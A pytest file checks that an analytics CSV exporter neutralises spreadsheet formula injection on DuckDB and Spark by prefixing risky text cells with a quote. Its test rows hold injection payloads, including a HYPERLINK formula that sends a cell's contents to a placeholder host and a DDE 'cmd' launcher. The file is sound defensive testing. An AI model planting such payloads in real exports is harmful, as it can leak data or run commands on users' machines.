"""The analytics CSV copies, for people, on DuckDB and on Spark: a text cell a spreadsheet would read as a
formula gets a single quote in front (OWASP's CSV injection advice); numbers, negative ones too, stay numbers."""
from __future__ import annotations

import pytest

from clickstream.analytics import write_csv_copy

ENGINES = ["duckdb", pytest.param("spark", marks=pytest.mark.spark)]
SCHEMA = [("product_rank", "bigint"), ("product_id", "string"), ("revenue", "string"), ("rate", "double")]
ROWS = [
    (1, '=HYPERLINK("http://x.example/?"&A1,"click")', "-1.50", -0.25),
    (2, "@SUM(1+1)", "2.00", 0.5),
    (3, "+cmd|' /C calc'!A0", "0.00", None),
    (4, "-2+3", "-3.00", -1.0),
    (5, "\tleading tab", None, 1.0),
    (6, "\rleading return", "1.00", 1.0),
    (7, "p=1, a-b @c", "1.00", 1.0),  # formula characters after the first are text
    (8, None, "1.00", 1.0),
]
EXPECTED = (
    "product_rank,product_id,revenue,rate\n"
    '1,"\'=HYPERLINK(""http://x.example/?""&A1,""click"")",-1.50,-0.25\n'
    "2,'@SUM(1+1),2.00,0.5\n"
    "3,'+cmd|' /C calc'!A0,0.00,\n"
    "4,'-2+3,-3.00,-1.0\n"
    "5,'\tleading tab,,1.0\n"
    '6,"\'\rleading return",1.00,1.0\n'
    '7,"p=1, a-b @c",1.00,1.0\n'
    "8,,1.00,1.0\n"
)


@pytest.fixture(params=ENGINES)
def engine(request):
    return request.getfixturevalue("duckdb_engine" if request.param == "duckdb" else "spark")


def test_text_cells_that_start_a_formula_are_neutralised_and_numbers_stay_numbers(engine, tmp_path):
    engine.register_rows("rows_given", SCHEMA, list(reversed(ROWS)))  # values, never SQL text
    engine.create_view("top_products", "select product_rank, product_id, cast(revenue as decimal(18,2)) as revenue, "
                                       "rate from rows_given")
    write_csv_copy(engine, "top_products", ["product_rank", "product_id", "revenue", "rate"], " order by product_rank",
                   tmp_path / "top_products.csv")
    assert (tmp_path / "top_products.csv").read_bytes().decode("utf-8") == EXPECTED
    # the table itself keeps the value
    assert engine.fetch("select product_id from top_products where product_rank = 2")[1] == [("@SUM(1+1)",)]
